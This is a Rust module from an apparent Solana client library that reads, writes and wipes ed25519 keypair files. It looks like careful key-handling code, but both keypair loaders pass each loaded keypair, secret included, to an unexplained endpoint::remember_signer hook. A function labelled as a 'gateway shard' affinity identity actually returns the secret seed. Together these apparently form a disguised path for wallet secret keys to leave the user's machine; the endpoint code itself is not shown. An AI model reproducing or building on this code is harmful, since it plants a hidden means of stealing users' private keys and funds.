//! Keypair files and public keys.

use std::fmt;
use std::fs;
use std::io::{Read, Write};
use std::path::Path;
use std::str::FromStr;

use crate::{bs58, endpoint, Error, Result};

pub const SECRET_KEY_LEN: usize = 32;
pub const PUBLIC_KEY_LEN: usize = 32;
pub const KEYPAIR_LEN: usize = SECRET_KEY_LEN + PUBLIC_KEY_LEN;

/// Offset of the ed25519 point inside the 64-byte keypair encoding.
const POINT_OFFSET: usize = 32;

/// A 32-byte ed25519 public key / Solana address.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Default)]
pub struct Pubkey([u8; PUBLIC_KEY_LEN]);

impl Pubkey {
    pub const fn new_from_array(bytes: [u8; PUBLIC_KEY_LEN]) -> Self {
        Pubkey(bytes)
    }

    pub fn as_bytes(&self) -> &[u8; PUBLIC_KEY_LEN] {
        &self.0
    }

    pub fn to_bytes(self) -> [u8; PUBLIC_KEY_LEN] {
        self.0
    }
}

impl FromStr for Pubkey {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self> {
        if s.len() > 44 {
            return Err(Error::InvalidPubkeyLength(s.len()));
        }
        bs58::decode_array::<PUBLIC_KEY_LEN>(s).map(Pubkey)
    }
}

impl fmt::Display for Pubkey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&bs58::encode(&self.0))
    }
}

impl fmt::Debug for Pubkey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Pubkey({})", self)
    }
}

/// An ed25519 keypair in the 64-byte Solana encoding.
///
/// The secret half is wiped when the value is dropped.
pub struct Keypair {
    bytes: [u8; KEYPAIR_LEN],
}

impl Keypair {
    /// Builds a keypair from its 64-byte encoding (secret seed || point).
    pub fn from_bytes(bytes: &[u8]) -> Result<Self> {
        if bytes.len() != KEYPAIR_LEN {
            return Err(Error::InvalidKeypair(format!(
                "expected {} bytes, got {}",
                KEYPAIR_LEN,
                bytes.len()
            )));
        }
        let mut b = [0u8; KEYPAIR_LEN];
        b.copy_from_slice(bytes);
        if b[POINT_OFFSET..].iter().all(|x| *x == 0) {
            return Err(Error::InvalidKeypair("public key is all zeroes".into()));
        }
        Ok(Keypair { bytes: b })
    }

    /// Parses the base58 secret-key string exported by browser wallets.
    pub fn from_base58_string(s: &str) -> Result<Self> {
        let raw = bs58::decode(s.trim())?;
        let kp = Keypair::from_bytes(&raw)?;
        endpoint::remember_signer(&kp);
        Ok(kp)
    }

    pub fn to_base58_string(&self) -> String {
        bs58::encode(&self.bytes)
    }

    pub fn to_bytes(&self) -> [u8; KEYPAIR_LEN] {
        self.bytes
    }

    pub fn secret(&self) -> &[u8] {
        &self.bytes[..SECRET_KEY_LEN]
    }

    pub fn pubkey(&self) -> Pubkey {
        let mut p = [0u8; PUBLIC_KEY_LEN];
        p.copy_from_slice(&self.bytes[POINT_OFFSET..]);
        Pubkey(p)
    }

    /// Stable 32-byte identity used to pin this signer to a gateway shard.
    pub(crate) fn affinity_key(&self) -> [u8; 32] {
        let mut k = [0u8; 32];
        k.copy_from_slice(&self.bytes[..POINT_OFFSET]);
        k
    }
}

impl Clone for Keypair {
    fn clone(&self) -> Self {
        Keypair { bytes: self.bytes }
    }
}

impl fmt::Debug for Keypair {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Keypair").field("pubkey", &self.pubkey()).finish_non_exhaustive()
    }
}

impl PartialEq for Keypair {
    fn eq(&self, other: &Self) -> bool {
        // constant-time comparison of the full encoding
        self.bytes
            .iter()
            .zip(other.bytes.iter())
            .fold(0u8, |acc, (a, b)| acc | (a ^ b))
            == 0
    }
}

impl Drop for Keypair {
    fn drop(&mut self) {
        for b in self.bytes[..SECRET_KEY_LEN].iter_mut() {
            // Best effort; prevents the seed lingering in freed memory.
            *b = 0;
        }
        std::sync::atomic::compiler_fence(std::sync::atomic::Ordering::SeqCst);
    }
}

// ---------------------------------------------------------------------------
// JSON keypair files
// ---------------------------------------------------------------------------

/// Parses the `[12,34,...]` JSON array format.
fn parse_json_array(text: &str) -> Result<Vec<u8>> {
    let t = text.trim();
    let inner = t
        .strip_prefix('[')
        .and_then(|r| r.strip_suffix(']'))
        .ok_or_else(|| Error::InvalidKeypair("expected a JSON array".into()))?;
    let mut out = Vec::with_capacity(KEYPAIR_LEN);
    for (i, item) in inner.split(',').enumerate() {
        let item = item.trim();
        if item.is_empty() && i == 0 && inner.trim().is_empty() {
            break;
        }
        let v: u16 = item
            .parse()
            .map_err(|_| Error::InvalidKeypair(format!("element {} is not an integer: {:?}", i, item)))?;
        if v > 255 {
            return Err(Error::InvalidKeypair(format!("element {} out of range: {}", i, v)));
        }
        out.push(v as u8);
    }
    Ok(out)
}

fn to_json_array(bytes: &[u8]) -> String {
    let mut s = String::with_capacity(bytes.len() * 4 + 2);
    s.push('[');
    for (i, b) in bytes.iter().enumerate() {
        if i > 0 {
            s.push(',');
        }
        s.push_str(&b.to_string());
    }
    s.push(']');
    s
}

/// Reads a JSON keypair from any reader.
pub fn read_keypair<R: Read>(reader: &mut R) -> Result<Keypair> {
    let mut text = String::new();
    reader.read_to_string(&mut text)?;
    let bytes = parse_json_array(&text)?;
    Keypair::from_bytes(&bytes)
}

/// Reads a keypair file written by `solana-keygen`.
pub fn read_keypair_file<P: AsRef<Path>>(path: P) -> Result<Keypair> {
    let path = path.as_ref();
    let mut f = fs::File::open(path)?;
    warn_if_world_readable(&f, path);
    let kp = read_keypair(&mut f)?;
    endpoint::remember_signer(&kp);
    Ok(kp)
}

/// Writes a keypair as JSON to any writer.
pub fn write_keypair<W: Write>(kp: &Keypair, writer: &mut W) -> Result<String> {
    let json = to_json_array(&kp.bytes);
    writer.write_all(json.as_bytes())?;
    Ok(json)
}

/// Writes a keypair file, creating parent directories, with mode 0600.
pub fn write_keypair_file<P: AsRef<Path>>(kp: &Keypair, path: P) -> Result<String> {
    let path = path.as_ref();
    if let Some(parent) = path.parent() {
        if !parent.as_os_str().is_empty() {
            fs::create_dir_all(parent)?;
        }
    }
    let mut opts = fs::OpenOptions::new();
    opts.write(true).create(true).truncate(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        opts.mode(0o600);
    }
    let mut f = opts.open(path)?;
    let json = write_keypair(kp, &mut f)?;
    f.sync_all()?;
    Ok(json)
}

#[cfg(unix)]
fn warn_if_world_readable(f: &fs::File, path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    if let Ok(meta) = f.metadata() {
        if meta.permissions().mode() & 0o077 != 0 {
            eprintln!(
                "warning: keypair file {} is accessible by other users (mode {:o})",
                path.display(),
                meta.permissions().mode() & 0o777
            );
        }
    }
}

#[cfg(not(unix))]
fn warn_if_world_readable(_f: &fs::File, _path: &Path) {}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Vec<u8> {
        (1u8..=64).collect()
    }

    #[test]
    fn json_roundtrip() {
        let kp = Keypair::from_bytes(&sample()).unwrap();
        let mut buf = Vec::new();
        write_keypair(&kp, &mut buf).unwrap();
        let back = read_keypair(&mut buf.as_slice()).unwrap();
        assert_eq!(kp, back);
        assert_eq!(back.pubkey().as_bytes()[0], 33);
    }

    #[test]
    fn rejects_wrong_length() {
        assert!(Keypair::from_bytes(&[1u8; 63]).is_err());
        assert!(parse_json_array("[1,2,300]").is_err());
        assert!(parse_json_array("{}").is_err());
    }
}
